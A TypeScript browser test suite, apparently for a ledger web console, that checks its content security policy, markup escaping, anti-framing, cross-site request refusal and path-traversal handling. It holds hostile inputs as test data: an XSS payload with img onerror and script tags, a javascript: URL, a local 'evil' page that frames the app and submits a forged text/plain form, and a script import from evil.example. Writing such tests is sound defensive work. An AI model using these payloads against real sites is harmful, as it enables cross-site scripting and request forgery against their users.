import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { haveChromium } from "./open-chromium.ts";
import { type ConsoleUnderTest, expectSound, startConsole } from "./open-console.ts";

const MARKUP = '"><img src=x onerror="document.title=1"><script>document.title=2</script>';
const RECORD = `/records/sha-256/${"c".repeat(64)}/0`;
const PAGES = ["/", "/deposit", "/records", RECORD, "/explorer", "/developers?section=api"];
/** Pages that show what the depositor wrote: it has to be there to prove anything. */
const SHOWN: Readonly<Record<string, string>> = { "/records": "<b>bold</b>", [RECORD]: MARKUP };

describe.skipIf(!haveChromium())("what somebody tries on the console", () => {
  let ledger: ConsoleUnderTest;
  let evil: Server;
  let evilUrl: string;
  /** What the other site's page holds. */
  let evilPage = "";
  beforeAll(async () => {
    ledger = await startConsole();
    await ledger.call("evidence.deposit", {
      digests: [{ alg: "sha-256", value: "c".repeat(64) }],
      labels: [MARKUP.slice(0, 60), "<b>bold</b>"],
      note: MARKUP,
      source: `javascript:alert(1) ${MARKUP}`,
    });
    evil = createServer((_request, response) => {
      response.setHeader("content-type", "text/html").end(evilPage);
    });
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
    evilUrl = `http://localhost:${(evil.address() as AddressInfo).port}/`;
  });
  afterAll(async () => {
    evil?.closeAllConnections();
    evil?.close();
    await ledger?.[Symbol.asyncDispose]();
  });

  it("the policy lets nothing foreign run, frame, post or be asked", async () => {
    const response = await fetch(`${ledger.url}/`, { headers: { accept: "text/html" } });
    const policy = response.headers.get("content-security-policy") ?? "";
    const rules = Object.fromEntries(
      policy.split("; ").map((rule) => {
        const [name = "", ...values] = rule.split(" ");
        return [name, values];
      }),
    );
    expect(rules).toMatchObject({
      "default-src": ["'none'"],
      "script-src": ["'self'"],
      "connect-src": ["'self'"],
      "form-action": ["'self'"],
      "base-uri": ["'none'"],
      "frame-ancestors": ["'none'"],
      "require-trusted-types-for": ["'script'"],
    });
    expect(policy).not.toMatch(/unsafe-(inline|eval|hashes)|wasm-unsafe|https?:|\*/);
    expect(response.headers.get("referrer-policy")).toBe("no-referrer");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const html = await response.text();
    expect(html).not.toMatch(/<script(?![^>]* src=)/);
    expect(html).not.toMatch(/ on[a-z]+=|style=|https?:\/\//);
    // A nonce that comes twice would be no nonce.
    const again = (await fetch(`${ledger.url}/`)).headers.get("content-security-policy");
    expect(again).not.toBe(policy);
  });

  it("text never becomes markup, and no script comes from a string", async () => {
    await using open = await ledger.open("/");
    // Later than the call itself, which the browser's own tools are allowed to make.
    const tried = await open.page.evaluate(
      () =>
        new Promise<string[]>((done) => {
          const attempts: Record<string, () => unknown> = {
            innerHTML: () => {
              document.createElement("div").innerHTML = "<b>x</b>";
            },
            // biome-ignore lint/security/noGlobalEval: what an attacker would try
            eval: () => eval("1"),
            constructor: () => new Function("return 1")(),
            worker: () => new Worker("data:text/javascript,1"),
          };
          setTimeout(() => {
            const results = Object.entries(attempts).map(([name, attempt]) => {
              try {
                attempt();
                return `${name} worked`;
              } catch {
                return `${name} refused`;
              }
            });
            done(results);
          });
        }),
    );
    expect(tried).toEqual([
      "innerHTML refused",
      "eval refused",
      "constructor refused",
      "worker refused",
    ]);
    expect(await imported(open.page)).toBe("refused");
  });

  it.each(PAGES)(
    "markup in labels and notes stays text on %s, and nobody else is asked",
    async (path) => {
      await using open = await ledger.open(path, { signedIn: true });
      await open.page.locator(".loading").first().waitFor({ state: "detached" });
      const shown = SHOWN[path];
      if (shown !== undefined) await open.page.getByText(shown).first().waitFor();
      expect(await open.page.locator("main img, main script, main b").count()).toBe(0);
      expect(await open.page.title()).not.toMatch(/^[12]$/);
      await expectSound(open);
    },
  );

  it("no other site frames it", async () => {
    evilPage = `<!doctype html><title>evil</title><iframe src="${ledger.url}/"></iframe>`;
    await using open = await ledger.open("/", { signedIn: true });
    const other = await open.page.context().newPage();
    await other.goto(evilUrl);
    const frame = other.frames()[1];
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
  });

  it("no other site makes a signed-in reader sign, or signs one in as somebody else", async () => {
    await using open = await ledger.open("/", { signedIn: true });
    const { page } = open;
    const before = (await (await fetch(`${ledger.url}/v1/status`)).json()) as { logSize: number };
    evilPage = `<!doctype html><title>evil</title>
      <form method="post" action="${ledger.url}/v1/apps/evidence/deposit" enctype="text/plain">
      <input name='{"digests":[{"alg":"sha-256","value":"${"e".repeat(64)}"}],"note":"' value='"}'></form>`;
    const other = await page.context().newPage();
    await other.goto(evilUrl);
    const [answer] = await Promise.all([
      other.waitForResponse((one) => one.url().startsWith(ledger.url)),
      other.evaluate(() => document.forms[0]?.submit()),
    ]);
    expect(answer.status()).toBeGreaterThanOrEqual(400);
    const third = await page.context().newPage();
    await third.goto(evilUrl);
    const posted = await third.evaluate(
      async ([url, token]) => {
        const results: string[] = [];
        for (const [path, body] of [
          ["/v1/apps/evidence/deposit", { digests: [{ alg: "sha-256", value: "e".repeat(64) }] }],
          ["/v1/access/sign-in", { token }],
          ["/v1/access/sign-out", {}],
        ] as const) {
          for (const type of ["application/json", "text/plain"]) {
            const request = { method: "POST", credentials: "include", mode: "cors" } as const;
            const text = JSON.stringify(body);
            const sent = fetch(url + path, {
              ...request,
              headers: { "content-type": type },
              body: text,
            });
            results.push(
              await sent.then(
                (one) => String(one.status),
                () => "refused",
              ),
            );
          }
        }
        return results;
      },
      [ledger.url, ledger.token],
    );
    expect(new Set(posted)).toEqual(new Set(["refused"]));
    const after = (await (await fetch(`${ledger.url}/v1/status`)).json()) as { logSize: number };
    expect(after.logSize).toBe(before.logSize);
    await page.reload();
    await page.getByRole("button", { name: "Sign out" }).waitFor();
  });

  it("paths of programs never answer with the page, paths of pages always do", async () => {
    const html = { accept: "text/html,*/*" };
    for (const path of [
      "/v1/nothing",
      "/log/nothing",
      "/assets/none.js",
      "/favicon.ico",
      "/.env",
    ]) {
      const response = await fetch(ledger.url + path, { headers: html });
      expect([path, response.status]).toEqual([path, 404]);
      expect(response.headers.get("content-type")).toContain("json");
    }
    expect((await fetch(`${ledger.url}/nowhere`)).status).toBe(404);
    const page = await fetch(`${ledger.url}/records/sha-256/abc/0`, { headers: html });
    expect([page.status, page.headers.get("cache-control")]).toEqual([200, "no-cache"]);
    const [, asset = ""] = /src="(\/assets\/[^"]+)"/.exec(await page.text()) ?? [];
    const script = await fetch(ledger.url + asset);
    expect(script.headers.get("cache-control")).toContain("immutable");
    expect(script.headers.get("content-security-policy")).toContain("default-src 'none'");
    for (const path of ["/assets/..%2f..%2fpackage.json", "/assets/%2e%2e/index.html"]) {
      expect((await fetch(ledger.url + path)).status).toBe(404);
    }
  });
});

/** What becomes of an import of somebody else's script. */
function imported(page: import("playwright-core").Page): Promise<string> {
  return page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const script = document.createElement("script");
        script.onload = () => resolve("worked");
        script.onerror = () => resolve("refused");
        try {
          script.src = "https://evil.example/x.js";
          document.head.append(script);
        } catch {
          resolve("refused");
        }
      }),
  );
}
